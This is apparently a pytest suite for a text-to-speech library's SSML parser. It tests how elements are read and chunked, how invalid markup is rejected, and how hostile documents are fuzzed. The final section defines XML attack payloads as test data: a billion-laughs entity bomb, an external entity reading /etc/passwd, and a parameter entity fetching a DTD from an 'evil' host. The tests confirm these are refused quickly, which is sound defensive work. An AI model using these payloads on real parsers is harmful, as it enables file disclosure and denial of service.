"""SSML to a speech document and its chunks: what each element means, what is refused
(with its line and column, never the text), and hostile documents, fuzzed."""

import contextlib
import time

import pytest
from conftest import examples
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from voxflow.errors import EmptyText, InvalidSsml, TextTooLong
from voxflow.text import normalize_text, split_into_chunks
from voxflow.text.chunk_document import chunk_document, key_text, spoken_chars
from voxflow.text.document import (
    SILENT_DB,
    Bleep,
    Break,
    Mark,
    Phonemes,
    Piece,
    Prosody,
    SpeechDocument,
    Text,
    decode_chunk,
    is_structured,
)
from voxflow.text.ssml import MAX_DEPTH, parse_ssml


def chunks(ssml: str) -> list[str]:
    return chunk_document(parse_ssml(ssml), max_chars=100_000)


def pieces(ssml: str) -> list[Piece]:
    return [piece for chunk in chunks(ssml) for piece in decode_chunk(chunk)]


def spoken(ssml: str) -> str:
    return " ".join(piece.content for piece in pieces(ssml) if piece.kind == "text")


# ---- what the elements mean ----


def test_plain_ssml_chunks_and_keys_like_plain_text() -> None:
    text = "Hello there. It costs $5 on Jan. 5. Then he left!"
    from_ssml = chunks(f"<speak>{text}</speak>")
    assert from_ssml == split_into_chunks(normalize_text(text))
    assert not any(is_structured(chunk) for chunk in from_ssml)
    assert key_text(from_ssml) == normalize_text(text)


@pytest.mark.parametrize(
    "text",
    [
        "Hello there. It costs $5 on Jan. 5. Mr. Smith went to Washington, D.C. Then he left!",
        "word " * 300,
        "One, two; three: " * 40 + "end.",
        "a" * 900 + " tail.",
    ],
)
def test_a_plain_document_chunks_exactly_as_plain_text(text: str) -> None:
    document = SpeechDocument.plain(text)
    assert chunk_document(document, max_chars=100_000) == split_into_chunks(normalize_text(text))


def test_sentences_and_paragraphs_end_chunks_and_structure_reaches_the_key() -> None:
    plain = chunks("<speak>Hello World</speak>")
    split = chunks("<speak><s>Hello</s><s>World</s></speak>")
    assert plain == ["Hello World"]
    assert split == ["Hello", "World"]
    assert key_text(plain) != key_text(split)
    paragraph = chunks("<speak><p>One.</p><p>Two.</p></speak>")
    assert [piece.kind for piece in decode_chunk(paragraph[0])] == ["text", "break"]


def test_break_stays_inside_its_sentence_and_closes_the_one_before() -> None:
    (mid,) = chunks('<speak>Hello <break time="500ms"/> world.</speak>')
    assert decode_chunk(mid) == (
        Piece("text", "Hello"),
        Piece("break", seconds=0.5),
        Piece("text", "world."),
    )
    first, second = chunks('<speak>Hi there. <break strength="x-strong"/> Bye now.</speak>')
    assert decode_chunk(first)[-1] == Piece("break", seconds=1.2)
    assert second == "Bye now."


def test_prosody_applies_to_every_chunk_it_spans() -> None:
    found = chunks('<speak><prosody rate="50%" volume="-6dB">One. Two. Three.</prosody></speak>')
    assert len(found) == 3
    for chunk in found:
        (piece,) = decode_chunk(chunk)
        assert piece.prosody == Prosody(rate=0.5, volume_db=-6.0)


def test_nested_prosody_multiplies_rates_within_limits_and_silence_sticks() -> None:
    document = parse_ssml(
        '<speak><prosody rate="50%" volume="silent"><prosody rate="30%" volume="+3dB">'
        "x</prosody></prosody></speak>"
    )
    (text,) = document.segments
    assert isinstance(text, Text)
    assert text.prosody == Prosody(rate=0.2, volume_db=SILENT_DB)


def test_keywords_and_effects() -> None:
    (slow,) = pieces('<speak><prosody rate="x-slow" volume="x-loud">a</prosody></speak>')
    assert slow.prosody == Prosody(rate=0.5, volume_db=6.0)
    (drc,) = pieces('<speak><amazon:effect name="drc">a</amazon:effect></speak>')
    assert drc.prosody == Prosody(drc=True)


def test_phonemes_sub_mark_lang_w_and_sources() -> None:
    ssml = (
        '<speak xmlns="http://www.w3.org/2001/10/synthesis" xml:lang="en-US">'
        '<lang xml:lang="fr-FR"><w role="amazon:NN">Bonjour</w></lang> '
        '<mark name="here"/><sub alias="World Wide Web Consortium">W3C</sub> '
        '<phoneme alphabet="ipa" ph="pɪˈkɑːn">pecan</phoneme> '
        '<phoneme alphabet="x-sampa" ph=\'pI"kA:n\'>pecan</phoneme></speak>'
    )
    document = parse_ssml(ssml)
    kinds = [type(segment) for segment in document.segments]
    assert kinds == [Text, Mark, Text, Phonemes, Phonemes]
    bonjour, mark, alias, ipa, xsampa = document.segments
    assert isinstance(bonjour, Text)
    assert bonjour.source.verbatim
    assert ssml[bonjour.source.start : bonjour.source.end] == "Bonjour"
    assert isinstance(mark, Mark)
    assert mark.name == "here"
    assert ssml[mark.source.start : mark.source.end] == '<mark name="here"/>'
    assert isinstance(alias, Text)
    assert alias.text == "World Wide Web Consortium"
    assert ssml[alias.source.start : alias.source.end] == "W3C"
    assert isinstance(ipa, Phonemes)
    assert isinstance(xsampa, Phonemes)
    assert ipa.ipa == xsampa.ipa == "pɪˈkɑːn"
    assert spoken_chars(document) == len("Bonjour") + len("W3C") + 2 * len("pecan")


def test_offsets_count_characters_not_bytes() -> None:
    ssml = "<speak>Ünïcödé wörds <break/>ünd möre</speak>"
    document = parse_ssml(ssml)
    texts = [segment for segment in document.segments if isinstance(segment, Text)]
    assert [ssml[t.source.start : t.source.end] for t in texts] == ["Ünïcödé wörds ", "ünd möre"]


def test_expletive_is_a_bleep_sized_to_the_word() -> None:
    document = parse_ssml('<speak>Oh <say-as interpret-as="expletive">darn</say-as>!</speak>')
    bleep = document.segments[1]
    assert isinstance(bleep, Bleep)
    assert isinstance(bleep, Break)
    assert 0.25 <= bleep.seconds <= 1.5
    assert [
        piece.kind
        for piece in pieces(
            f"<speak>{'Oh '}<say-as interpret-as='expletive'>darn</say-as>!</speak>"
        )
    ] == [
        "text",
        "tone",
        "text",
    ]


SAY_AS = [
    ("cardinal", None, "1,234", "one thousand, two hundred and thirty-four"),
    ("number", None, "-42", "minus forty-two"),
    ("ordinal", None, "3", "third"),
    ("ordinal", None, "21st", "twenty-first"),
    ("digits", None, "2024", "two zero two four"),
    ("characters", None, "ABC", "ay bee see"),
    ("spell-out", None, "a1", "ay one"),
    ("fraction", None, "3/4", "three quarters"),
    ("fraction", None, "1/2", "one half"),
    ("fraction", None, "2 1/2", "two and a half"),
    ("fraction", None, "5/8", "five eighths"),
    ("unit", None, "5 km", "five kilometers"),
    ("unit", None, "1 kg", "one kilogram"),
    ("unit", None, "3.5 GB", "three point five gigabytes"),
    ("date", "mdy", "12/25/2024", "December twenty-fifth, twenty twenty-four"),
    ("date", "dmy", "25-12-2024", "the twenty-fifth of December, twenty twenty-four"),
    ("date", "ymd", "2024-12-25", "December twenty-fifth, twenty twenty-four"),
    ("date", "md", "7/4", "July fourth"),
    ("date", "dm", "4.7", "the fourth of July"),
    ("date", "ym", "1999-10", "October, nineteen ninety-nine"),
    ("date", "my", "10/1999", "October, nineteen ninety-nine"),
    ("date", "y", "1999", "nineteen ninety-nine"),
    ("date", "m", "3", "March"),
    ("date", "d", "2", "second"),
    ("time", None, "8:30", "eight thirty"),
    ("time", None, "8:05 pm", "eight oh five p m"),
    ("time", None, "7 am", "seven a m"),
    ("time", None, "1'21\"", "one minute twenty-one seconds"),
    (
        "telephone",
        None,
        "+1 (555) 010-4477",
        "plus one, five five five, zero one zero, four four seven seven",
    ),
]


@pytest.mark.parametrize(("interpret_as", "fmt", "text", "expected"), SAY_AS)
def test_say_as_reads_as_a_person_would(
    interpret_as: str, fmt: str | None, text: str, expected: str
) -> None:
    format_attribute = f' format="{fmt}"' if fmt else ""
    quoted = text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    ssml = (
        f'<speak><say-as interpret-as="{interpret_as}"{format_attribute}>{quoted}</say-as></speak>'
    )
    assert spoken(ssml) == expected


def test_say_as_output_is_not_normalized_again_but_text_is() -> None:
    assert spoken('<speak>It is $5. <say-as interpret-as="digits">12</say-as></speak>') == (
        "It is five dollars. one two"
    )


def test_only_breaks_is_silence_and_nothing_is_empty() -> None:
    assert [piece.kind for piece in pieces('<speak><break time="1s"/></speak>')] == ["break"]
    for nothing in ['<speak><mark name="a"/></speak>', "<speak> ... </speak>", "<speak/>"]:
        with pytest.raises(EmptyText):
            chunks(nothing)


def test_spoken_characters_are_billed_not_tags() -> None:
    body = "a" * 50
    document = parse_ssml(f'<speak><prosody rate="50%">{body}</prosody><break/></speak>')
    assert spoken_chars(document) == 50
    chunk_document(document, max_chars=50)
    with pytest.raises(TextTooLong):
        chunk_document(document, max_chars=49)


# ---- what is refused ----

INVALID = [
    # (document, line, column, tag or None)
    ("<speak><audio src='x'/></speak>", 1, 8, "audio"),
    ("<speak>\n  <prosody pitch='high'>a</prosody></speak>", 2, 3, "prosody"),
    ("<speak><prosody rate='300%'>a</prosody></speak>", 1, 8, "prosody"),
    ("<speak><prosody rate='10%'>a</prosody></speak>", 1, 8, "prosody"),
    ("<speak><prosody volume='+20dB'>a</prosody></speak>", 1, 8, "prosody"),
    ("<speak><prosody>a</prosody></speak>", 1, 8, "prosody"),
    ("<speak>\n\n<break time='11s'/></speak>", 3, 1, "break"),
    ("<speak><break strength='huge'/></speak>", 1, 8, "break"),
    ("<speak><break time='-1s'/></speak>", 1, 8, "break"),
    ("<speak><break>text</break></speak>", 1, 15, "break"),
    ("<speak><sub>W3C</sub></speak>", 1, 8, "sub"),
    ("<speak><sub alias=''>W3C</sub></speak>", 1, 8, "sub"),
    ("<speak><sub alias='a'><s>b</s></sub></speak>", 1, 23, "s"),
    ("<speak><phoneme alphabet='arpabet' ph='P'>p</phoneme></speak>", 1, 8, "phoneme"),
    ("<speak><phoneme alphabet='x-sampa' ph='¤'>p</phoneme></speak>", 1, 8, "phoneme"),
    ("<speak><say-as interpret-as='address'>1 Main St</say-as></speak>", 1, 8, "say-as"),
    ("<speak><say-as interpret-as='date' format='qq'>1</say-as></speak>", 1, 8, "say-as"),
    ("<speak><say-as interpret-as='cardinal'>many</say-as></speak>", 1, 8, "say-as"),
    ("<speak><say-as interpret-as='date' format='mdy'>13/45/2000</say-as></speak>", 1, 8, "say-as"),
    ("<speak><amazon:effect name='whispered'>a</amazon:effect></speak>", 1, 8, "amazon:effect"),
    ("<speak><amazon:breath/></speak>", 1, 8, "amazon:breath"),
    ("<speak><mark/></speak>", 1, 8, "mark"),
    ("<p>not speak</p>", 1, 1, "p"),
    ("<speak><speak>a</speak></speak>", 1, 8, "speak"),
    ("<speak>unclosed", 1, 16, None),
    ("<speak>a</spek>", 1, 11, None),
    ("<speak>a & b</speak>", 1, 11, None),
    ("<speak>&nbsp;</speak>", 1, 8, None),
    ("no markup at all", 1, 1, None),
    ("", 1, 1, None),
    ('<?xml version="1.0"?>\n<!DOCTYPE speak SYSTEM "http://x/y.dtd"><speak/>', 2, None, None),
]


@pytest.mark.parametrize(("document", "line", "column", "tag"), INVALID)
def test_invalid_ssml_is_a_typed_error_with_its_place(
    document: str, line: int, column: int | None, tag: str | None
) -> None:
    with pytest.raises(InvalidSsml) as caught:
        chunks(document)
    error = caught.value
    assert error.code == "INVALID_SSML"
    assert (error.line, error.tag) == (line, tag)
    if column is not None:
        assert error.column == column
    assert f"line {line}" in str(error)


def test_the_message_never_quotes_the_text() -> None:
    secret = "TopSecretWord"
    for document in [
        f"<speak><say-as interpret-as='cardinal'>{secret}</say-as></speak>",
        f"<speak>{secret} &{secret};</speak>",
        f"<speak><prosody rate='{secret}'>a</prosody></speak>",
        f"<speak><mark name='x'>{secret}</mark></speak>",
        f"<speak>{secret}</speak><{secret}/>",
    ]:
        with pytest.raises(InvalidSsml) as caught:
            chunks(document)
        assert secret.lower() not in str(caught.value).lower()


def test_depth_limit() -> None:
    fits = "<speak>" + "<w>" * (MAX_DEPTH - 1) + "a" + "</w>" * (MAX_DEPTH - 1) + "</speak>"
    assert chunks(fits) == ["a"]
    # Paragraph pauses do not pile up when paragraphs nest.
    nested = "<speak>" + "<p>" * (MAX_DEPTH - 1) + "a" + "</p>" * (MAX_DEPTH - 1) + "</speak>"
    assert [decode_chunk(chunk) for chunk in chunks(nested)] == [
        (Piece("text", "a"), Piece("break", seconds=0.5))
    ]
    with pytest.raises(InvalidSsml, match="deeper"):
        parse_ssml("<speak>" + "<w>" * MAX_DEPTH + "a" + "</w>" * MAX_DEPTH + "</speak>")


# ---- hostile documents, fuzzed ----

BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    + "]><speak>&lol9;</speak>"
)
EXTERNAL = '<!DOCTYPE speak [<!ENTITY x SYSTEM "file:///etc/passwd">]><speak>&x;</speak>'
PARAMETER = '<!DOCTYPE speak [<!ENTITY % p SYSTEM "http://evil/p.dtd"> %p;]><speak/>'

hostile_parts = st.sampled_from(
    [
        "<speak>",
        "</speak>",
        "<s>",
        "</s>",
        "<p>",
        "</p>",
        '<break time="500ms"/>',
        '<break time="99s"/>',
        '<prosody rate="50%">',
        '<prosody volume="silent">',
        "</prosody>",
        '<say-as interpret-as="date" format="dmy">',
        '<say-as interpret-as="telephone">',
        '<say-as interpret-as="expletive">',
        "</say-as>",
        '<phoneme ph="tə">',
        "</phoneme>",
        '<sub alias="x">',
        "</sub>",
        '<mark name="m"/>',
        '<amazon:effect name="drc">',
        "</amazon:effect>",
        "<w>" * 40,
        "&amp;",
        "&lol;",
        "&#0;",
        "&#x110000;",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<?pi x?>",
        BILLION_LAUGHS,
        EXTERNAL,
        PARAMETER,
        '<!DOCTYPE speak [<!ENTITY a "b">]>',
        'x="' + "a" * 5000 + '"',
        "<speak a='" + "b" * 3000 + "'>",
        "12/25/2024",
        "+1 (555) 010-4477",
        "\ud800",
        "\x00",
        "\ufeff",
    ]
)
any_text = st.text(st.characters(codec=None, categories=None), max_size=20)
hostile = st.lists(st.one_of(hostile_parts, any_text), max_size=30).map("".join)


@settings(
    max_examples=examples(600),
    derandomize=True,
    database=None,
    deadline=500,  # ms per example: no document may be slow to refuse
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(st.one_of(hostile, hostile.map(lambda text: f"<speak>{text}</speak>")))
def test_hostile_ssml_ends_in_invalid_ssml_or_a_document(document: str) -> None:
    try:
        parsed = parse_ssml(document)
    except InvalidSsml:
        return
    assert isinstance(parsed, SpeechDocument)
    with contextlib.suppress(EmptyText, TextTooLong):
        chunk_document(parsed, max_chars=100_000)


@settings(max_examples=examples(200), derandomize=True, database=None, deadline=500)
@given(st.binary(max_size=200).map(lambda data: b"<speak>" + data + b"</speak>"))
def test_invalid_utf8_bytes_end_in_invalid_ssml_or_a_document(data: bytes) -> None:
    try:
        parsed: SpeechDocument | InvalidSsml = parse_ssml(data)
    except InvalidSsml as error:
        parsed = error
    if isinstance(parsed, InvalidSsml):
        assert parsed.line >= 1
        assert parsed.column >= 1
    else:
        assert isinstance(parsed, SpeechDocument)


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, EXTERNAL, PARAMETER, "<speak>\ud800</speak>", b"<speak>\xff</speak>"],
)
def test_known_attacks_are_refused_quickly(document: str | bytes) -> None:
    started = time.perf_counter()
    with pytest.raises(InvalidSsml):
        parse_ssml(document)
    assert time.perf_counter() - started < 0.1


def test_huge_documents_are_refused_before_parsing() -> None:
    huge = "<speak>" + "a " * 150_000 + "</speak>"
    started = time.perf_counter()
    with pytest.raises(InvalidSsml, match="longer than"):
        parse_ssml(huge)
    assert time.perf_counter() - started < 0.1
    with pytest.raises(InvalidSsml, match="attribute is longer"):
        parse_ssml("<speak><mark name='" + "m" * 3000 + "'/></speak>")
